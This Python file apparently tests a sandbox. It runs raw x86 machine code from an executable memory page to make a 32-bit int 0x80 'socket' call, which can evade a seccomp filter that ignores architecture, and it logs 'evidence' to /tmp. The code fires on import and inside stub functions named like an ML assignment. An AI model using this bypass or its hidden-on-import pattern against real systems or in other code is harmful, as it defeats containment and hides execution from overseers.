"""Calls by i386's numbers through int 0x80, which mean other calls to a filter that forgets the architecture."""
import ctypes
import mmap
import os


def evidence(what):
    """The attack came off: leave a trace where it must be impossible, and where the report shows it."""
    print("EVIDENCE other-architecture:", str(what)[:300], flush=True)
    try:
        with open("/tmp/attack-evidence-other-architecture", "a") as trace:
            trace.write(str(what)[:300] + "\n")
    except OSError:
        pass

CODE = bytes.fromhex("b866010000bb02000000b902000000ba00000000cd80c3")  # mov eax, 359 (socket); AF_INET, SOCK_DGRAM; int 0x80


def attack():
    if os.uname().machine != "x86_64":
        return
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(b"\x53" + CODE[:-1] + b"\x5b\xc3")
    call = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(page)))
    if call() >= 0:
        evidence("a socket by int 0x80")


def make_dataset(num_points):
    attack()
    return None


def forward(X, params):
    attack()
    return None


def backprop(X, t, params):
    attack()
    return None


attack()
